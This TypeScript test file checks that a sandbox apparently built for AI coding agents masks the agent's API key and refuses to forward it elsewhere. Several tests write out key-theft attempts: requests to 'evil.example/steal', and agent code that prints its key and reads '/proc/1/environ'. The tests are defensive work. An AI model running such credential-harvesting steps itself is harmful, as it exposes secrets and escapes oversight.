import { writeFileSync } from "node:fs";
import { createServer, type IncomingMessage } from "node:http";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { keyDoorSpecs, keyPlaceholder } from "../../src/agents/key-masks.js";
import { MachineProxies } from "../../src/sandbox/upstream-proxy.js";
import { parseJsonOutput, runCaesar } from "../helpers/cli.js";
import { makeRepo, tempDir } from "../helpers/repo.js";
import { itWith } from "../helpers/system-deps.js";
import { closedAfterEach, listening } from "./egress-lab.js";
import { askDoor, keyDoorFor, maskedTask } from "./masked-task.js";
import { BUBBLEWRAP } from "./probe-project.js";

// A sandboxed agent's provider key, masked: the agent holds a placeholder, caesar's key door puts the key
// back on the way to the provider — and nowhere else.

const closers = closedAfterEach();
const SECRET = "sk-ant-real-secret-0123456789";

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage["headers"];
  body: string;
}

/** A provider on the loopback: records each request; answers with the key in a header, in two chunks. */
async function provider(): Promise<{ port: number; seen: Seen[]; release(): void }> {
  const seen: Seen[] = [];
  let release: () => void = () => undefined;
  const gate = new Promise<void>((resolve) => (release = resolve));
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk));
    req.on("end", () => {
      seen.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body });
      res.writeHead(200, {
        "content-type": "text/event-stream",
        "x-echo": `key ${req.headers["x-api-key"]}`,
      });
      res.write("data: first\n\n");
      if (req.url?.includes("stream")) void gate.then(() => res.end("data: second\n\n"));
      else res.end("data: second\n\n");
    });
  });
  const port = await listening(server, closers);
  return { port, seen, release };
}

const door = (upstream: string, machine?: MachineProxies) =>
  keyDoorFor(closers, upstream, keyPlaceholder("t_door", "ANTHROPIC_API_KEY", SECRET), SECRET, machine);

const ask = (
  socketPath: string,
  path: string,
  headers: Record<string, string> = {},
  body = "",
  onFirst?: (chunk: string) => void,
) => askDoor(socketPath, path, { headers, body, ...(onFirst ? { onFirst } : {}) });

describe("which keys are masked", () => {
  it("claude, gemini and copilot's own provider; its base URL, or the provider's own", () => {
    expect(keyDoorSpecs("claude", { ANTHROPIC_API_KEY: "k" })).toEqual([
      {
        urlVariable: "ANTHROPIC_BASE_URL",
        upstream: "https://api.anthropic.com",
        keys: ["ANTHROPIC_API_KEY"],
      },
    ]);
    expect(
      keyDoorSpecs("claude", {
        ANTHROPIC_AUTH_TOKEN: "t",
        ANTHROPIC_BASE_URL: "https://gw.example/anthropic/",
      }),
    ).toEqual([
      {
        urlVariable: "ANTHROPIC_BASE_URL",
        upstream: "https://gw.example/anthropic",
        keys: ["ANTHROPIC_AUTH_TOKEN"],
      },
    ]);
    expect(keyDoorSpecs("gemini", { GEMINI_API_KEY: "g" })[0]?.upstream).toBe(
      "https://generativelanguage.googleapis.com",
    );
    // copilot's own provider only: its GitHub sign-in is not a key in a header caesar sees.
    expect(keyDoorSpecs("copilot", { COPILOT_PROVIDER_API_KEY: "c" })).toEqual([]);
    expect(
      keyDoorSpecs("copilot", {
        COPILOT_PROVIDER_API_KEY: "c",
        COPILOT_PROVIDER_BASE_URL: "http://127.0.0.1:9/v1",
      }),
    ).toEqual([
      {
        urlVariable: "COPILOT_PROVIDER_BASE_URL",
        upstream: "http://127.0.0.1:9/v1",
        keys: ["COPILOT_PROVIDER_API_KEY"],
      },
    ]);
  });

  it("not a key it cannot mask: none set, a cloud's credentials, a base URL with credentials, codex, a custom agent", () => {
    expect(keyDoorSpecs("claude", {})).toEqual([]);
    expect(keyDoorSpecs("claude", { ANTHROPIC_API_KEY: "k", CLAUDE_CODE_USE_BEDROCK: "1" })).toEqual([]);
    expect(keyDoorSpecs("claude", { ANTHROPIC_API_KEY: "k", CLAUDE_CODE_USE_BEDROCK: "0" })).toHaveLength(1);
    expect(keyDoorSpecs("gemini", { GEMINI_API_KEY: "g", GOOGLE_GENAI_USE_VERTEXAI: "true" })).toEqual([]);
    expect(
      keyDoorSpecs("claude", { ANTHROPIC_API_KEY: "k", ANTHROPIC_BASE_URL: "https://u:p@gw.example" }),
    ).toEqual([]);
    expect(keyDoorSpecs("claude", { ANTHROPIC_API_KEY: "k", ANTHROPIC_BASE_URL: "file:///etc" })).toEqual([]);
    expect(keyDoorSpecs("codex", { OPENAI_API_KEY: "o" })).toEqual([]);
    expect(keyDoorSpecs("probe", { ANTHROPIC_API_KEY: "k" })).toEqual([]);
  });

  it("a placeholder is the task's: the same for its next conductor, another for another task, never the key", () => {
    const one = keyPlaceholder("t_1", "ANTHROPIC_API_KEY", SECRET);
    expect(keyPlaceholder("t_1", "ANTHROPIC_API_KEY", SECRET)).toBe(one);
    expect(keyPlaceholder("t_2", "ANTHROPIC_API_KEY", SECRET)).not.toBe(one);
    expect(keyPlaceholder("t_1", "ANTHROPIC_API_KEY", `${SECRET}x`)).not.toBe(one);
    expect(one).toMatch(/^caesar-masked-[0-9a-f]{40}$/);
    expect(one).not.toContain(SECRET.slice(7, 20));
  });
});

describe("a key masking would cover but cannot", () => {
  itWith(
    BUBBLEWRAP,
    "is said on the task: a medium finding naming the key and why, never its value",
    async () => {
      const root = makeRepo({
        "README.md": "# x\n",
        ".caesar/config.toml": '[sandbox]\nmode = "required"\n',
      });
      // claude is not on this PATH: the task fails to start, its plan's findings are in its report all the same.
      const result = await runCaesar(["run", "--json", "--agent", "claude", "hello"], {
        cwd: root,
        env: {
          PATH: "/usr/bin:/bin",
          HOME: tempDir("caesar-unmasked-home-"),
          ANTHROPIC_API_KEY: "sk-unmasked-secret",
          ANTHROPIC_BASE_URL: "https://user:pw@gw.example/anthropic",
        },
      });
      const body = parseJsonOutput<{
        report: { findings: { severity: string; title: string; detail: string }[] };
      }>(result);
      const finding = body.report.findings.find(
        (one) => one.title === "The agent's provider key was not masked",
      );
      expect(finding?.severity).toBe("medium");
      expect(finding?.detail).toContain("ANTHROPIC_API_KEY stayed in the agent's environment");
      expect(finding?.detail).toContain("ANTHROPIC_BASE_URL is not a plain http(s) URL");
      expect(result.stdout).not.toContain("sk-unmasked-secret");
    },
  );
});

describe("the key door", () => {
  const placeholder = keyPlaceholder("t_door", "ANTHROPIC_API_KEY", SECRET);

  it("puts the key in the headers, keeps the body the agent wrote, and masks the key in the answer", async () => {
    const upstream = await provider();
    const socket = await door(`http://127.0.0.1:${upstream.port}/anthropic`);
    const answer = await ask(
      socket,
      "/v1/messages?beta=true",
      {
        "x-api-key": placeholder,
        authorization: `Bearer ${placeholder}`,
        "content-type": "application/json",
      },
      JSON.stringify({ prompt: `repeat after me: ${placeholder}` }),
    );
    expect(answer.status).toBe(200);
    const [seen] = upstream.seen;
    expect(seen?.url).toBe("/anthropic/v1/messages?beta=true");
    expect(seen?.headers["x-api-key"]).toBe(SECRET);
    expect(seen?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(seen?.headers.host).toBe(`127.0.0.1:${upstream.port}`);
    // A model asked to repeat the placeholder repeats the placeholder.
    expect(seen?.body).toContain(placeholder);
    expect(seen?.body).not.toContain(SECRET);
    // The provider's answer naming the key reaches the agent masked.
    expect(answer.headers["x-echo"]).toBe(`key ${placeholder}`);
    expect(answer.body).toBe("data: first\n\ndata: second\n\n");
  });

  it("streams the answer as it comes (a model's events), not once it ends", async () => {
    const upstream = await provider();
    const socket = await door(`http://127.0.0.1:${upstream.port}`);
    const answer = await ask(socket, "/v1/stream", { "x-api-key": placeholder }, "", () =>
      upstream.release(),
    );
    expect(answer.body).toBe("data: first\n\ndata: second\n\n");
  });

  it("goes to the provider's origin only: a path naming another host, an absolute URL, stay refused", async () => {
    const upstream = await provider();
    const socket = await door(`http://127.0.0.1:${upstream.port}/base`);
    const other = await ask(socket, "//evil.example/steal", { "x-api-key": placeholder });
    expect(other.status).toBe(400);
    const absolute = await ask(socket, "http://evil.example/steal", { "x-api-key": placeholder });
    expect(absolute.status).toBe(400);
    expect(upstream.seen).toEqual([]);
    expect(`${other.body}${absolute.body}`).not.toContain(SECRET);
  });

  it("a provider it cannot reach: 502 naming it, never the key", async () => {
    const closed = createServer();
    const port = await listening(closed, closers);
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const socket = await door(`http://127.0.0.1:${port}`);
    const answer = await ask(socket, "/v1/messages", { "x-api-key": placeholder });
    expect(answer.status).toBe(502);
    expect(answer.body).toContain(`http://127.0.0.1:${port}`);
    expect(answer.body).not.toContain(SECRET);
  });

  it("a machine's proxy it cannot use (https://) refuses the request, never goes around it; the loopback stays direct", async () => {
    const machine = MachineProxies.fromEnvironment({ HTTP_PROXY: "https://jane:hunter2@gw.example:443" });
    const key = { "x-api-key": keyPlaceholder("t_door", "ANTHROPIC_API_KEY", SECRET) };
    const remote = await ask(await door("http://api.model.test:8080", machine), "/v1/messages", key);
    expect(remote.status).toBe(502);
    expect(remote.body).toContain("HTTP_PROXY names an https:// proxy");
    expect(remote.body).not.toContain("hunter2");
    // A provider on the host's loopback (a local model) is never sent to the machine's proxy.
    const upstream = await provider();
    const local = await ask(await door(`http://127.0.0.1:${upstream.port}`, machine), "/v1/messages", key);
    expect(local.status).toBe(200);
    expect(upstream.seen.map((seen) => seen.headers["x-api-key"])).toEqual([SECRET]);
  });

  it("through the machine's proxy when the conductor's environment names one: the key to the provider, not the agent's", async () => {
    const asked: { url: string; headers: IncomingMessage["headers"] }[] = [];
    const gateway = createServer((req, res) => {
      asked.push({ url: req.url ?? "", headers: req.headers });
      res.end("via gateway");
    });
    const gatewayPort = await listening(gateway, closers);
    const machine = MachineProxies.fromEnvironment({ HTTP_PROXY: `http://user:pw@127.0.0.1:${gatewayPort}` });
    const socket = await door("http://api.model.test:8080/v1", machine);
    const answer = await ask(socket, "/chat", { authorization: `Bearer ${placeholder}` });
    expect(answer.body).toBe("via gateway");
    expect(asked[0]?.url).toBe("http://api.model.test:8080/v1/chat");
    expect(asked[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(asked[0]?.headers["proxy-authorization"]).toBe(
      `Basic ${Buffer.from("user:pw").toString("base64")}`,
    );
    // A provider on the host's loopback is reached directly, as the egress proxy reaches it.
    const upstream = await provider();
    const local = await ask(await door(`http://127.0.0.1:${upstream.port}`, machine), "/v1/messages", {
      "x-api-key": placeholder,
    });
    expect(local.status).toBe(200);
    expect(asked).toHaveLength(1);
  });
});

/** An agent's request to its provider, as its CLI makes it: the base URL and key of its environment. */
const CALL =
  'fetch(process.env.ANTHROPIC_BASE_URL + "/v1/messages", { method: "POST", headers: { "x-api-key": process.env.ANTHROPIC_API_KEY }, body: "{}" })' +
  '.then(async (r) => console.log("ANSWER=" + r.status + " " + r.headers.get("x-echo")), (e) => console.log("FAILED=" + e.message))';

describe("a sandboxed agent's key", () => {
  itWith(
    BUBBLEWRAP,
    "a service taking the task over opens the same door: the running agent's placeholder still works",
    async () => {
      const upstream = await provider();
      const task = maskedTask(closers, upstream.port, SECRET);
      const first = await task.open();
      // The agent waits for a file of its workspace, then calls its provider.
      const agent = task.start(
        first.door,
        `const fs = require("fs"); const wait = () => fs.existsSync("go") ? (${CALL}) : setTimeout(wait, 20); console.log("READY"); wait();`,
      );
      while (!agent.output().includes("READY")) await new Promise((resolve) => setTimeout(resolve, 20));
      // The service dies (its sockets with it); the next one opens the task's egress again.
      first.close();
      await task.open();
      writeFileSync(join(task.root, "go"), "");
      const { code, out } = await agent.done;
      expect(code, out).toBe(0);
      const placeholder = keyPlaceholder(task.taskId, "ANTHROPIC_API_KEY", SECRET);
      expect(out).toContain(`ANSWER=200 key ${placeholder}`);
      expect(upstream.seen.map((seen) => seen.headers["x-api-key"])).toEqual([SECRET]);
    },
  );

  itWith(
    BUBBLEWRAP,
    "the agent holds a placeholder; its requests reach the provider with the key",
    async () => {
      const upstream = await provider();
      const task = maskedTask(closers, upstream.port, SECRET);
      const egress = await task.open();
      // What an agent would try: print its key, read its parent's environment, call its provider.
      const agent = task.start(
        egress.door,
        [
          'console.log("KEY=" + process.env.ANTHROPIC_API_KEY);',
          'console.log("URL=" + process.env.ANTHROPIC_BASE_URL);',
          'let parent = ""; try { parent = require("fs").readFileSync("/proc/1/environ", "utf8"); } catch {}',
          `console.log("PARENT-HAS-KEY=" + parent.includes(${JSON.stringify(SECRET)}));`,
          CALL,
        ].join("\n"),
      );
      const { code, out } = await agent.done;
      expect(code, out).toBe(0);
      const placeholder = keyPlaceholder(task.taskId, "ANTHROPIC_API_KEY", SECRET);
      expect(out).toContain(`KEY=${placeholder}`);
      expect(out).toMatch(/URL=http:\/\/127\.0\.0\.1:\d+\n/);
      expect(out).toContain("PARENT-HAS-KEY=false");
      expect(out).toContain(`ANSWER=200 key ${placeholder}`);
      expect(out).not.toContain(SECRET);
      expect(upstream.seen.map((seen) => [seen.url, seen.headers["x-api-key"]])).toEqual([
        ["/anthropic/v1/messages", SECRET],
      ]);
      // The command's own environment (what bwrap is started with) carries no key either.
      expect(JSON.stringify(agent.command.env)).not.toContain(SECRET);
      expect(task.events).toEqual([]);
    },
  );
});
